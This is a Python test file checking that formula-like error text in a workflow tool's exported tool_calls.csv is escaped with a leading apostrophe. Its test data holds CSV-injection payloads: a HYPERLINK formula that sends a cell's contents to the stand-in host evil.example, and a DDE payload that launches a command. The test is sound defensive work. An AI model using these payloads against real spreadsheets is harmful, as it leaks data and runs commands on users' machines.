"""The bundle's ``tool_calls.csv`` as a spreadsheet opens it: an error message a tool echoed from
elsewhere that starts like a formula (``=``, ``+``, ``-``, ``@``) is written as text, quoted with a
leading ``'``, never as a formula to run."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

from outlast import App, _bundle as bundle
from outlast.producer import AsyncClient
from outlast.testing import HarnessFactory, outlast_harness, outlast_servers

__all__ = ["outlast_harness", "outlast_servers"]  # the fixtures, without the plugin installed

SAID = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]

app = App()


@app.tool("echoed")
def echoed(message: str) -> None:
    raise RuntimeError(message)  # as an API's error text, repeated to the caller


@app.workflow("formulas")
async def formulas(run: Any) -> list[str]:
    caught = []
    for message in SAID:
        try:
            await run.call("echoed", message=message)
        except Exception as exc:
            caught.append(str(exc))
    return caught


def test_a_cell_that_would_start_a_formula_is_written_as_text(outlast_harness: HarnessFactory) -> None:
    h = outlast_harness(app)
    h.start_worker()
    run = h.client.enqueue("formulas", {})
    assert h.wait(run.id, timeout=30).state == "succeeded"

    async def contents() -> dict[str, str]:
        async with AsyncClient(settings=h.settings) as c:
            return await bundle.contents(c, run.id)

    rows = list(csv.DictReader(io.StringIO(asyncio.run(contents())["tool_calls.csv"])))
    assert [r["status"] for r in rows] == ["error"] * 4
    errors = [r["error"] for r in rows]
    assert all(e.startswith("'") for e in errors), errors
    assert [e[1:] for e in errors] == SAID, errors
